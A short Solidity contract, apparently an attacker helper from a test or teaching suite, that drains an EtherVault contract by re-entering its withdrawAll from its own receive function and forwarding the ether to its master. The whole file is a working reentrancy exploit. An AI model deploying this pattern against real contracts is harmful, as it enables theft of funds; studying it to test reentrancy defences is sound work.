// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {Address} from "@openzeppelin/contracts/utils/Address.sol";
import {EtherVault} from "../EtherVault.sol";
import {Thief} from "./Thief.sol";

/// @title Re-enters `EtherVault.withdrawAll` from its own `receive`.
contract ReentrantThief is Thief {
    EtherVault private immutable _vault;
    uint256 private _left;

    /// @param vault_ The vault to take from.
    constructor(EtherVault vault_) {
        _vault = vault_;
    }

    /// @notice Called by the vault while the balance still stands: asks again, as often as was ordered.
    receive() external payable {
        if (_left > 1 && address(_vault).balance >= msg.value) {
            _left -= 1;
            _vault.withdrawAll();
        }
    }

    /// @notice Stakes the ether sent along, takes it out up to `times` times, and sends all to the master.
    function take(uint256 times) external payable onlyMaster {
        _left = times;
        _vault.deposit{value: msg.value}();
        _vault.withdrawAll();
        Address.sendValue(payable(_master), address(this).balance);
    }
}
